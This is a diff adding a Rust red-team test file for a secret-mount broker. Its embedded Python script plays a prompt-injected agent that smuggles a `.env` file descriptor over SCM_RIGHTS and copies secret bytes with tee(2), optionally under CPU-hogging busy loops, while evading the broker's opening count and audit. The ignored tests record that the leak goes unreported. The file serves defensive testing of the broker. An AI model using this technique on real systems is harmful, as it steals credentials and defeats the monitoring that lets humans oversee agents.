@@ -1,0 +1,184 @@
+//! Red team s12 of issue 22 (`.env` mounts), after the count of openings (fanotify from
+//! `mkfifo` on) and the check that the reader is blocked reading the FIFO's own descriptor:
+//! a prompt-injected agent (same uid, shell, `/proc`, the socket) trying to copy bytes of a
+//! mount read without the read being refused or reported. A held attack is a passing test;
+//! one that still works is kept `#[ignore = "LEAK: ..."]`.
+#![allow(clippy::print_stderr)] // the figures of each attempt (counts only, never a value)
+
+use std::time::Duration;
+
+use crate::harness::{Home, text};
+use crate::mount::{Project, approve_card, finished, mount, store, values, wait_card};
+use crate::redteam_s9c::longest_run;
+
+/// The agent. It forks a thief (B) first, sharing a `socketpair`; then (A) opens `.env` by
+/// name itself, blocking: the one opening the count sees. A sends a copy of that open file
+/// into the socket's queue (`SCM_RIGHTS`: in flight, in no `/proc/PID/fd`, no opening), makes
+/// it its standard input and execs an ordinary program that reads its standard input (python3
+/// counting bytes: the same executable the agent runs, so the card pins the same binary).
+/// That program is the only holder, it opened nothing after the count started, and it is
+/// blocked in `read(0)` on the FIFO's own descriptor: every check of the reader holds. B
+/// waits for the reader's fd 0 to be the FIFO, then at each write (its modification time,
+/// through `stat(/proc/A/fd/0)`: no descriptor) takes the parked copy back (`recvmsg`), copies
+/// the pipe with non-blocking `tee(2)` (consumes nothing) for at most `argv[4]` ms and parks
+/// it again. After `argv[3]` pieces copied (or the reader gone, or 2 s quiet) it takes the copy
+/// back and closes it, so no read end of its own is left when the reader closes (the check
+/// after the text). `argv[5]` = `1`: two busy loops per CPU (normal priority), so the woken
+/// reader waits for a CPU. B writes what it copied to `argv[2]`, then `argv[2].done`.
+const INHERIT: &str = r#"
+import os, sys, time, ctypes, socket, stat, signal
+path, out, nmax, window, spin = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4]) / 1000, sys.argv[5] == "1"
+a, b = socket.socketpair()
+reader = os.getpid()
+if os.fork() != 0:
+    fd = os.open(path, os.O_RDONLY)  # blocks until the broker's poll opens it for writing
+    socket.send_fds(a, [b"x"], [fd])  # a copy in flight: no opening, in no table
+    os.dup2(fd, 0); os.close(fd)
+    os.execvp("python3", ["python3", "-c", "import sys\nsys.stdout.write(str(len(sys.stdin.buffer.read())))\n"])
+libc = ctypes.CDLL(None, use_errno=True)
+src = f"/proc/{reader}/fd/0"
+t0 = time.time()
+while time.time() - t0 < 30:
+    try:
+        if stat.S_ISFIFO(os.stat(src).st_mode):
+            break
+    except OSError:
+        pass
+    time.sleep(0.001)
+spinners = []
+if spin:
+    for _ in range(2 * len(os.sched_getaffinity(0))):
+        c = os.fork()
+        if c == 0:
+            libc.prctl(1, signal.SIGKILL)
+            while True:
+                pass
+        spinners.append(c)
+r, w = os.pipe()
+data = []; copies = 0
+try:
+    m0 = os.stat(src).st_mtime_ns
+except OSError:
+    m0 = 0
+last = time.time()
+while copies < nmax and time.time() - last < 2:
+    try:
+        m = os.stat(src).st_mtime_ns
+    except OSError:
+        break  # the reader is gone
+    if m == m0:
+        continue
+    m0 = m; last = time.time()
+    _, fds, _, _ = socket.recv_fds(b, 1, 1)  # back, without an opening
+    fd = fds[0]; t1 = time.time()
+    while time.time() - t1 < window:
+        n = libc.tee(fd, w, 1 << 16, 2)  # SPLICE_F_NONBLOCK
+        if n > 0:
+            got = os.read(r, n)
+            if not data or data[-1] != got:
+                data.append(got); copies += 1
+            break
+    socket.send_fds(a, [b"x"], [fd]); os.close(fd)  # parked again
+_, fds, _, _ = socket.recv_fds(b, 1, 1)
+os.close(fds[0])  # dropped before the reader closes: no read end left behind
+for c in spinners:
+    os.kill(c, signal.SIGKILL)
+sys.stderr.write(f"copies {copies}\n")
+with open(out, "wb") as f:
+    f.write(b"".join(data))
+open(out + ".done", "w").close()
+"#;
+
+/// What the inheriting agent came to: (bytes copied, longest run of one value, whether the
+/// broker refused or reported anything, what the human is told).
+fn inherited(max_pieces: u32, spin: bool) -> (usize, usize, bool, String) {
+    let h = Home::new();
+    let vals = values();
+    store(&h, &vals);
+    let p = Project::new();
+    mount(&h, &p);
+    let out = p.tmp.path().join("stolen");
+    let reader = p.reader(
+        &[
+            "python3",
+            "-c",
+            INHERIT,
+            p.env_file().to_str().unwrap(),
+            out.to_str().unwrap(),
+            &max_pieces.to_string(),
+            "2",
+            if spin { "1" } else { "0" },
+        ],
+        &[],
+    );
+    let card = wait_card(&h);
+    eprintln!(
+        "card argv: {} words",
+        card["argv"].as_array().map_or(0, Vec::len)
+    );
+    approve_card(&h, &card, &[]);
+    let honest = finished(reader);
+    let done = out.with_extension("done");
+    let t0 = std::time::Instant::now();
+    while !done.exists() {
+        assert!(
+            t0.elapsed() < Duration::from_secs(60),
+            "the thief never finished"
+        );
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    // Let the broker finish its checks after the text.
+    std::thread::sleep(Duration::from_millis(1500));
+    let stolen = std::fs::read(&out).unwrap();
+    let audit = h.audit_text();
+    for e in audit
+        .lines()
+        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
+        .filter(|e| e["event"].as_str().is_some_and(|n| n.starts_with("mount_")))
+    {
+        eprintln!("audit: {} {}", e["event"], e["why"]);
+    }
+    let flagged = audit.contains("\"mount_read_suspect\"") || audit.contains("\"mount_refused\"");
+    let longest = vals
+        .iter()
+        .map(|(_, v)| longest_run(&stolen, v.as_bytes()))
+        .max()
+        .unwrap_or(0);
+    eprintln!(
+        "inherited (spin {spin}): {} bytes copied, longest run of a value {longest}, flagged {flagged}, honest read {}",
+        stolen.len(),
+        text(&honest.stdout)
+    );
+    (stolen.len(), longest, flagged, h.ok(&["mounts"]))
+}
+
+/// The reader's standard input is the agent's own opening of `.env`, a copy of which the agent
+/// sent into a socket's queue before it exec'd the reader (a descriptor obtained without an
+/// opening: the count sees one opening, the reader's, and the holders scan one holder). The
+/// reader is an ordinary program blocked reading the FIFO through its own descriptor. The
+/// thief copies a few pieces with `tee(2)` and drops its copy long before the text ends.
+/// Measured (3 runs): 25 to 31 bytes copied, up to 15 consecutive bytes of one value, card
+/// `python3 -c ...` (the exec'd reader), audit `mount_read` only: nothing refused or reported.
+#[test]
+#[ignore = "LEAK: a read end sent over SCM_RIGHTS before the reader's exec shares the reader's one opening (fanotify counts 1, /proc shows one holder blocked on the FIFO); a tee copier that drops it before the text ends copies pieces unreported"]
+fn a_copy_of_the_readers_own_opening_sent_before_exec_copies_pieces_unreported() {
+    let (bytes, longest, flagged, mounts) = inherited(6, false);
+    assert!(
+        bytes == 0 || flagged,
+        "the thief copied {bytes} bytes (longest run of one value {longest}) unreported; mounts: {mounts}"
+    );
+}
+
+/// The same with the agent's busy loops (two per CPU, normal priority): the woken reader
+/// waits for a CPU while the thief's `tee` runs. Measured (3 runs): 22 to 31 bytes copied,
+/// up to 11 consecutive bytes of one value; 2 unreported, 1 reported (the thief, slowed by its
+/// own spinners, dropped its copy after the reader closed: "a read end ... outlived").
+#[test]
+#[ignore = "LEAK: as above, under CPU load: the check after the text catches the thief only when it drops its copy too late"]
+fn a_copy_of_the_readers_own_opening_sent_before_exec_with_spinners_copies_pieces_unreported() {
+    let (bytes, longest, flagged, mounts) = inherited(6, true);
+    assert!(
+        bytes == 0 || flagged,
+        "the thief copied {bytes} bytes (longest run of one value {longest}) unreported; mounts: {mounts}"
+    );
+}
